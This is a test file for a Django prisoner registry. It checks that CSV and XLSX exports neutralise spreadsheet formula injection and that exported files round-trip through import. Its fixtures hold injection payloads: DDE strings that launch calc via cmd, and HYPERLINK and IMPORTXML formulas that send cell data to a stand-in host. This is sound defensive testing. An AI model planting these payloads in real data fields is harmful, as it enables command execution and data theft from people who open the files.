"""No export is a way to run a formula: every CSV the registry writes neutralises cells that a
spreadsheet program would run (a leading ' as OWASP recommends), and XLSX files hold them as
text. The API's CSV routes are found through the URL resolver, so a new one is checked too; the
admin's spreadsheets are imported back unchanged (registry.core.formulas)."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.urls import reverse
from import_export.formats.base_formats import CSV

from prisoners.models import (
    Article,
    ArticleTitle,
    Charge,
    Country,
    Court,
    ExternalId,
    Organisation,
    OrganisationName,
    Place,
    Prisoner,
    Recognition,
    Sentence,
    Transfer,
)
from registry.api import urls as api_urls
from registry.core.formulas import FORMULA_TRIGGERS
from releases.models import Concession, Negotiator, ReportedFigure
from tests.factories import (
    DealFactory,
    DetentionFactory,
    PersonNameFactory,
    PrisonerFactory,
    ReleaseFactory,
    SourceFactory,
)
from tests.helpers import get

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://x.example/?"&W2,"Open")'
HOSTILE = {
    "display_name": HYPERLINK,
    "occupation": "+cmd|' /C calc'!A0",
    "biography": "@SUM(1+1)*cmd|' /C calc'!A0",
    "relatives_contacts": '=HYPERLINK("http://x.example/?"&A1,"Click")',
    "internal_notes": "-2+3+cmd|' /C calc'!A0",
}


@pytest.fixture
def hostile_world():
    territory = Country.objects.create(code="XN", name="=Formula Territory")
    source = SourceFactory(title="=1+2 Report", publisher="@Publisher", url="https://x.example/")
    deal = DealFactory(
        slug="formula-deal", title='=IMPORTXML(CONCAT("http://x.example/",A2),"//a")'
    )
    deal.sources.add(source)
    deal.parties.add(territory)
    Negotiator.objects.create(deal=deal, name="+Negotiator Name", role="-role")
    Concession.objects.create(deal=deal, description="-Concession text")
    ReportedFigure.objects.create(deal=deal, count=3, reported_by="@Agency", destination=territory)
    person = PrisonerFactory(nationalities=[territory], **HOSTILE)
    person.sources.add(source)
    PersonNameFactory(prisoner=person, name="=Other Name")
    detention = DetentionFactory(
        prisoner=person,
        detained_on=datetime.date(2021, 1, 1),
        place="-Place",
        charges_text="=Charges",
        facility="@Facility",
    )
    article = Article.objects.create(jurisdiction=territory, number="342")
    ArticleTitle.objects.create(article=article, language="en", title="=Article title")
    Charge.objects.create(prisoner=person, detention=detention, article=article, text="=ст. 342")
    court = Court.objects.create(name="@Court", country=territory)
    Sentence.objects.create(
        prisoner=person,
        detention=detention,
        court=court,
        judge="+Judge",
        as_stated="=10 years",
        regime_as_stated="-regime",
    )
    place = Place.objects.create(
        kind="prison",
        name="=Place of detention",
        locality="+Locality",
        region="-Region",
        country=territory,
        is_published=True,
    )
    Transfer.objects.create(detention=detention, place=place)
    organisation = Organisation.objects.create(
        slug="formula-org", name="=Organisation", website="", is_published=True
    )
    OrganisationName.objects.create(organisation=organisation, language="be", name="@Арганізацыя")
    Recognition.objects.create(
        prisoner=person,
        organisation=organisation,
        decided_on=detention.detained_on,
        criteria="=HYPERLINK(1)",
        criteria_code="+PACE",
        is_published=True,
    )
    ExternalId.objects.create(prisoner=person, scheme="viasna", value="=ID-1")
    ReleaseFactory(prisoner=person, deal=deal, detention=detention, destination=territory)
    return person


def api_csv_urls(person):
    """Every API route as CSV: lists, and details with an id that exists."""
    ids = {
        "prisoner": person.public_id,
        "deal": "formula-deal",
        "country": "XN",
        "article": "XN-CC-342",
        "place": Place.objects.get().public_id,
        "organization": "formula-org",
    }
    ids["release"] = person.releases.get().public_id
    urls = []
    for pattern in api_urls.urlpatterns:
        name = pattern.name
        if name == "not-found":
            continue
        if name.endswith("-detail"):
            urls.append(reverse(f"api-v1:{name}", args=[ids[name.removesuffix("-detail")]]))
        else:
            urls.append(reverse(f"api-v1:{name}"))
    return urls


def formula_cells(rows):
    return [cell for row in rows for cell in row if cell and cell[0] in FORMULA_TRIGGERS]


def test_every_api_csv_neutralises_formulas(client, hostile_world):
    checked = 0
    for url in api_csv_urls(hostile_world):
        response = client.get(url, {"format": "csv"})
        assert response.status_code == 200, url
        text = b"".join(response.streaming_content).decode()
        rows = list(csv.reader(io.StringIO(text)))
        assert not formula_cells(rows), (url, formula_cells(rows))
        checked += len(rows) - 1
    assert checked > 10
    rows = list(
        csv.DictReader(
            io.StringIO(
                b"".join(get(client, "prisoners/", format="csv").streaming_content).decode()
            )
        )
    )
    assert rows[0]["display_name"] == "'" + HYPERLINK  # shown as typed, not run


EXPORTS = [
    ("admin:prisoners_prisoner_export", "0"),
    ("admin:prisoners_prisoner_export", "1"),
    ("admin:releases_release_export", "0"),
    ("admin:releases_release_export", "1"),
]


@pytest.mark.parametrize(("route", "format_index"), EXPORTS)
def test_admin_spreadsheets_hold_no_formula(editor_client, hostile_world, route, format_index):
    response = editor_client.post(
        reverse(route), {"format": format_index, "resource": "0", "include_restricted": "on"}
    )
    assert response.status_code == 200
    if format_index == "0":
        rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
        assert not formula_cells(rows), formula_cells(rows)
        assert any(cell.startswith("'=") for row in rows for cell in row)
        return
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert not [cell.value for cell in cells if cell.data_type == "f"]
    values = {cell.value for cell in cells}
    if route.startswith("admin:prisoners"):
        # The text as typed, relatives' contacts included, in text cells.
        assert HYPERLINK in values and HOSTILE["relatives_contacts"] in values


@pytest.mark.parametrize("format_index", ["0", "1"])
def test_an_export_imports_back_unchanged(editor_client, hostile_world, format_index):
    from tests.test_import_admin import IMPORT_URL

    exported = editor_client.post(
        reverse("admin:prisoners_prisoner_export"),
        {"format": format_index, "resource": "0", "include_restricted": "on"},
    )
    name = "people.csv" if format_index == "0" else "people.xlsx"
    from django.core.files.uploadedfile import SimpleUploadedFile

    upload = SimpleUploadedFile(name, exported.content)
    response = editor_client.post(IMPORT_URL, {"import_file": upload, "format": format_index})
    result = response.context["result"]
    assert not result.has_validation_errors(), [r.error_dict for r in result.invalid_rows]
    assert [row.import_type for row in result.rows] == ["skip"]
    assert Prisoner.objects.get().display_name == HYPERLINK


def test_csv_reading_takes_off_only_what_the_export_added():
    dataset = CSV().create_dataset("a\n'=1\n''x\n'plain\n")
    from registry.core.spreadsheets.formats import SafeCSV

    read = SafeCSV().create_dataset(b"a\n'=1\n''x\n'plain\n")
    assert [row[0] for row in read] == ["=1", "'x", "'plain"]
    assert [row[0] for row in dataset] == ["'=1", "''x", "'plain"]
